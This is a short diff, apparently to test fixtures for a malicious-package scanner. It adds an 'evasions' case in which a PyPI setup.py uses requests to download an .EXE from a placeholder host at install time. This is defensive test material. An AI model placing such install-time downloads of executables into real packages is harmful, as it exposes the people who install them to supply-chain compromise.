@@ -101,6 +101,12 @@ A library that downloads its own native part from its release page in a function
         },
       },
     ],
+    evasions: [
+      {
+        ecosystem: "pypi",
+        files: { "setup.py": "import requests\nrequests.get('https://example.invalid/a/UPDATE.EXE?raw=true')\n" },
+      },
+    ],
   },
 };
 
